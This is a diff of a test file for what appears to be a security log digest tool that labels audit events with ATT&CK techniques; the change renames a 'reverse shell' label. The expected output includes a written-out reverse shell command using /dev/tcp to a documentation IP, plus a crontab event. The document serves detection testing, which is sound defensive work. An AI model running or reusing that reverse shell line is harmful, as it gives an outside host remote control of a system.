@@ -39,7 +39,7 @@ test("a digest says who did what, what stands out, and how all adds up", () => {
     programs: /bin/bash 1; /usr/bin/df 201
     parents: /usr/sbin/nginx 1
     notable (time, event id; rare = seldom for its kind and program)
-    T1059.004 Unix Shell: reverse shell by www-data:
+    T1059.004 Unix Shell: shell connected to another host by www-data:
     10:03:21 000000c9 bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 ← nginx
     rare by app:
     10:03:22 000000ca start df --help
@@ -63,7 +63,7 @@ test("of several hosts the one that most happened on is said once, others where 
     audit("/usr/bin/crontab", "crontab /tmp/x", on("db-1.corp.example")),
   ]);
   expect(text).toContain("\nnotable on web-3 unless said (");
-  expect(text).toMatch(/^T1059\.004 Unix Shell: reverse shell by eve:$/m);
+  expect(text).toMatch(/^T1059\.004 Unix Shell: shell connected to another host by eve:$/m);
   expect(text).toMatch(/^T1053\.003 .* by eve:\n\S+ \w+ on db-1 crontab/m);
 });
 
